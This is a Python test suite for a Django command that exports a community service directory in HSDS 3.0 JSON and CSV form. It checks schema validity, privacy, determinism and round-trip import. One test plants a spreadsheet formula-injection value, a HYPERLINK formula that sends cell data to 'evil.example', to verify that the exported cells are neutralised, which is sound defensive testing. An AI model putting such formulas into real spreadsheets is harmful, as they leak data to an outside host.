"""`cpi export_hsds`: every exported object valid against the official HSDS 3.0 schemas, the
tabular package laid out as compiled/tabular.json says, nothing private, the same bytes twice."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from connecting_people.directory import models as d
from connecting_people.directory.fit import ACCESS_TAXONOMY
from connecting_people.directory.fit_records import record_from_words, write_access, write_audience
from connecting_people.directory.hsds import tabular
from connecting_people.directory.hsds.export import export_hsds
from connecting_people.directory.hsds.importer import import_path
from connecting_people.directory.hsds.schemas import OFFICIAL_BASE
from tests.directory import hsds_records as records
from tests.directory.hsds_schemas import check_shape, folder, load, validate_page

pytestmark = pytest.mark.django_db

JSON_SCHEMAS = {
    "services.json": "compiled/service.json",
    "organizations.json": "compiled/organization.json",
    "taxonomies.json": "taxonomy.json",
    "taxonomy_terms.json": "taxonomy_term.json",
}


@pytest.fixture
def exported(tmp_path):
    folder()
    rich = records.rich_service()
    records.plain_service()
    # With a last_modified of its own: the importer stamps services that come without one.
    d.Service.objects.create(
        name="Closed for good", status="defunct", last_modified=rich.service.last_modified
    )
    _as_imported()
    export_hsds(tmp_path)
    return rich, tmp_path


def _as_imported() -> None:
    """The directory as an import leaves it: access and audience read from its words."""
    record_from_words(d.Service.objects.values_list("id", flat=True))


def _page(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("name", list(JSON_SCHEMAS))
def test_every_exported_json_object_is_valid(exported, name):
    _rich, out = exported
    page = _page(out / "json" / name)

    validate_page(page, {"$ref": OFFICIAL_BASE + JSON_SCHEMAS[name]})
    for item in page["contents"]:
        check_shape(item, JSON_SCHEMAS[name])
    assert page["total_items"] == page["size"] == len(page["contents"])
    assert page["first_page"]
    assert page["last_page"]


def test_services_json_holds_every_service_in_full_including_closed_ones(exported):
    rich, out = exported

    contents = _page(out / "json" / "services.json")["contents"]

    assert [s["id"] for s in contents] == sorted(
        str(pk) for pk in d.Service.objects.values_list("id", flat=True)
    )
    assert "defunct" in {s["status"] for s in contents}
    full = next(s for s in contents if s["id"] == str(rich.service.pk))
    assert full["service_at_locations"][0]["location"]["addresses"][0]["city"] == "Riverside"


def test_tabular_files_have_the_official_names_and_columns(exported):
    _rich, out = exported
    official = load("compiled/tabular.json")["properties"]

    for name, table in official.items():
        item = table["items"]
        path = out / "tabular" / item["path"]
        if name == "meta_table_description":
            assert not path.exists()
            continue
        columns = [k for k, v in item["properties"].items() if v.get("type") != "array"]
        with path.open(encoding="utf-8", newline="") as f:
            assert next(csv.reader(f)) == columns, item["path"]


def test_datapackage_describes_each_table_as_the_schemas_do(exported):
    _rich, out = exported
    official = {
        t["items"]["path"]: t["items"] for t in load("compiled/tabular.json")["properties"].values()
    }

    package = json.loads((out / "tabular" / "datapackage.json").read_text(encoding="utf-8"))

    assert package["profile"] == "tabular-data-package"
    assert {r["path"] for r in package["resources"]} == set(official) - {
        "meta_table_descriptions.csv"
    }
    for resource in package["resources"]:
        item = official[resource["path"]]
        assert resource["name"] == item["name"]
        assert resource["profile"] == "tabular-data-resource"
        assert (resource["format"], resource["mediatype"]) == ("csv", "text/csv")
        assert (out / "tabular" / resource["path"]).is_file()
        for described in resource["schema"]["fields"]:
            spec = item["properties"][described["name"]]
            assert described["type"] == spec.get("datapackage_type", spec["type"]).replace(
                "date-time", "datetime"
            ), (resource["path"], described)
            expected_format = (
                spec.get("format") if spec.get("format") in ("uuid", "email", "uri") else None
            )
            assert described.get("format") == expected_format, (resource["path"], described)
            required = described.get("constraints", {}).get("required", False)
            assert required == (described["name"] in item.get("required", [])), described


def test_tabular_rows_hold_the_records_in_hsds_form(exported):
    rich, out = exported

    services = _csv(out / "tabular" / "services.csv")
    schedules = _csv(out / "tabular" / "schedules.csv")
    costs = _csv(out / "tabular" / "cost_options.csv")
    metadata = _csv(out / "tabular" / "metadata.csv")

    assert [s["id"] for s in services] == sorted(s["id"] for s in services)
    row = next(s for s in services if s["id"] == str(rich.service.pk))
    assert row["organization_id"] == str(rich.organization.pk)
    assert row["minimum_age"] == "18"
    assert row["assured_date"] == "2024-05-01"
    assert row["last_modified"] == "2024-06-01T09:30:15.123Z"
    assert row["alert"] == "No walk on bank holidays"
    assert {"10:00:00", "14:00:00", "08:00:00"} <= {s["opens_at"] for s in schedules}
    assert {c["amount"] for c in costs} == {"1.5", "0"}
    assert {m["last_action_date"] for m in metadata} >= {"2024-06-01"}
    assert len(_csv(out / "tabular" / "attributes.csv")) == d.Attribute.objects.count()


def test_nothing_private_leaves(exported):
    _rich, out = exported

    for path in out.rglob("*"):
        if path.is_file():
            text = path.read_text(encoding="utf-8")
            for planted in records.private_strings():
                assert planted not in text, f"{planted} in {path.name}"
            assert "interest_category" not in text
            assert "updated_at" not in text


def test_the_same_directory_gives_the_same_files(exported, tmp_path_factory):
    _rich, out = exported
    again = tmp_path_factory.mktemp("again")

    export_hsds(again, batch_size=1)

    first = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    second = {p.relative_to(again): p.read_bytes() for p in again.rglob("*") if p.is_file()}
    assert first == second


def test_an_empty_directory_exports_empty_pages_and_headers(db, tmp_path):
    folder()
    d.Taxonomy.objects.all().delete()
    d.TaxonomyTerm.objects.all().delete()

    counts = export_hsds(tmp_path)

    page = _page(tmp_path / "json" / "services.json")
    assert page["contents"] == []
    assert page["empty"] is True
    assert counts["tabular/services.csv"] == 0
    assert (tmp_path / "tabular" / "services.csv").read_text().startswith("id,organization_id,")


def test_command_writes_the_chosen_format_and_says_how_many(db, tmp_path):
    folder()
    records.plain_service()
    out = io.StringIO()

    call_command("export_hsds", str(tmp_path), "--format", "tabular", stdout=out)

    assert not (tmp_path / "json").exists()
    assert (tmp_path / "tabular" / "datapackage.json").is_file()
    assert "tabular/services.csv" in out.getvalue()
    assert "1 row" in out.getvalue()
    assert not list(tmp_path.rglob("*.part"))


def test_command_refuses_a_file_for_a_folder(db, tmp_path):
    target = tmp_path / "a-file"
    target.write_text("x")

    with pytest.raises(Exception, match="is a file"):
        call_command("export_hsds", str(target))


def test_streaming_costs_queries_per_batch_not_per_record(db, tmp_path):
    folder()
    for _ in range(12):
        records.plain_service()
    with CaptureQueriesContext(connection) as twelve_in_two_batches:
        export_hsds(tmp_path / "first", batch_size=6)
    for _ in range(12):
        records.plain_service()

    with CaptureQueriesContext(connection) as twice_as_many_in_two_batches:
        export_hsds(tmp_path / "second", batch_size=12)

    assert len(twice_as_many_in_two_batches) <= len(twelve_in_two_batches)


def _wipe_directory() -> None:
    for model in (
        d.Attribute,
        d.Metadata,
        d.Service,
        d.Location,
        d.Organization,
        d.TaxonomyTerm,
        d.Taxonomy,
    ):
        model.objects.all().delete()


@pytest.mark.parametrize("fmt", ["tabular", "json"])
def test_an_export_imports_back_to_the_same_export(exported, tmp_path_factory, fmt):
    _rich, out = exported
    _wipe_directory()
    sources = (
        [out / "tabular"]
        if fmt == "tabular"
        else [
            out / "json" / n
            for n in (
                "taxonomies.json",
                "taxonomy_terms.json",
                "organizations.json",
                "services.json",
            )
        ]
    )
    for source in sources:
        report = import_path(source)
        assert report.ok, report.lines()
    again = tmp_path_factory.mktemp("again")

    export_hsds(again)

    for path in (out / fmt).rglob("*"):
        if path.is_file():
            assert (again / fmt / path.relative_to(out / fmt)).read_bytes() == path.read_bytes(), (
                path.name
            )


def test_tables_list_every_hsds_model_once():
    assert len({t.model for t in tabular.TABLES}) == len(tabular.TABLES) == 20


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1, "Book here")'


def test_tabular_text_cells_cannot_run_as_formulas_and_numbers_stay_numbers(db, tmp_path):
    service = records.plain_service()
    service.name = HOSTILE_NAME
    service.description = "@SUM(1+1)"
    service.alert = "'-already quoted"
    service.save()
    d.Phone.objects.filter(service=service).update(number="+44 1632 960222")

    tabular.write_tabular(tmp_path)

    row = _csv(tmp_path / "services.csv")[0]
    assert row["name"] == "'" + HOSTILE_NAME
    assert row["description"] == "'@SUM(1+1)"
    assert row["alert"] == "''-already quoted"
    phones = _csv(tmp_path / "phones.csv")
    assert next(p for p in phones if p["service_id"] == str(service.pk))["number"] == (
        "'+44 1632 960222"
    )
    location = _csv(tmp_path / "locations.csv")[0]
    assert location["longitude"] == "-0.12"  # a number: data, not a formula


def test_a_tabular_export_with_quoted_cells_imports_back_as_it_was(db, tmp_path):
    service = records.plain_service()
    service.name = HOSTILE_NAME
    service.alert = "'-already quoted"
    service.save()
    d.Phone.objects.filter(service=service).update(number="-1632 960222")
    _as_imported()
    tabular.write_tabular(tmp_path / "first")
    _wipe_directory()

    report = import_path(tmp_path / "first")

    assert report.ok, report.lines()
    again = d.Service.objects.get()
    assert (again.name, again.alert) == (HOSTILE_NAME, "'-already quoted")
    assert again.phones.get().number == "-1632 960222"
    assert float(d.Location.objects.get().longitude) == -0.12
    tabular.write_tabular(tmp_path / "second")
    for path in (tmp_path / "first").iterdir():
        assert (tmp_path / "second" / path.name).read_bytes() == path.read_bytes(), path.name


def test_access_and_audience_leave_as_attributes_with_their_terms(db, tmp_path):
    """Issue 17: a place's features and a service's audience are exported as HSDS attributes
    with their taxonomy terms, still valid against the official schemas."""
    folder()
    service = records.plain_service()
    location = d.Location.objects.filter(service_at_locations__service=service).first()
    write_access("location", location.id, ["step_free", "hearing_loop"])
    write_audience(service.id, ["carers"])
    export_hsds(tmp_path)
    page = _page(tmp_path / "json" / "services.json")
    validate_page(page, {"$ref": OFFICIAL_BASE + JSON_SCHEMAS["services.json"]})
    (item,) = page["contents"]
    assert {a["taxonomy_term"]["code"] for a in item["attributes"]} >= {"carers"}
    place = next(
        s["location"]
        for s in item["service_at_locations"]
        if s["location"]["id"] == str(location.id)
    )
    assert {a["taxonomy_term"]["code"] for a in place["attributes"]} == {
        "step_free",
        "hearing_loop",
    }
    assert {a["link_entity"] for a in place["attributes"]} == {"location"}
    taxonomies = _page(tmp_path / "json" / "taxonomies.json")["contents"]
    assert ACCESS_TAXONOMY["id"] in {t["id"] for t in taxonomies}
